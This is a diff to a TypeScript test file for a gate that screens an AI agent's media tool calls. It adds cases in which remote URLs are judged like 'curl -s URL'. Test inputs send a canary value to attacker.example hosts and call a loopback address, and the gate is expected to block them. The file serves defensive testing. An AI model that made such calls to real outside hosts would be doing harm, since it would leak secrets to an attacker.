@@ -205,7 +205,20 @@ describe("OpenClaw gate: media tools open files like read", () => {
     expect(await call(g, "view_image", { path: "cat.png" })).toBeUndefined();
     expect(await call(g, "view_image", { path: path.join(ws, "cat.png") })).toBeUndefined();
     expect(await call(g, "view_image", { path: " @ MEDIA:cat.png" })).toBeUndefined();
-    expect(await call(g, "view_image", { path: "https://example.com/a.png" })).toBeUndefined();
+    // A remote reference is fetched by OpenClaw: judged like web_fetch (curl -s URL), hosts of the policy only.
+    expect(
+      await call(g, "view_image", { path: "https://raw.githubusercontent.com/o/r/main/a.png" }),
+    ).toBeUndefined();
+    for (const [tool, params] of [
+      ["view_image", { path: "https://example.com/a.png?k=SW-CANARY" }],
+      ["image", { images: ["cat.png", " https://attacker.example/i.png?k=SW-CANARY"] }],
+      ["pdf", { pdf: "@https://attacker.example/d.pdf" }],
+      ["video_generate", { audioRef: "http://127.0.0.1:9/a.mp3" }],
+    ] as const) {
+      const r = await call(g, tool, params);
+      expect(r?.block, tool).toBe(true);
+      expect(r?.blockReason, tool).toContain("judged like `curl -s URL`");
+    }
     writeFileSync(path.join(home, "notes.png"), "png");
     expect(await call(g, "view_image", { path: "data:image/png;base64,aGk=" })).toBeUndefined();
     const bad: [string, object][] = [
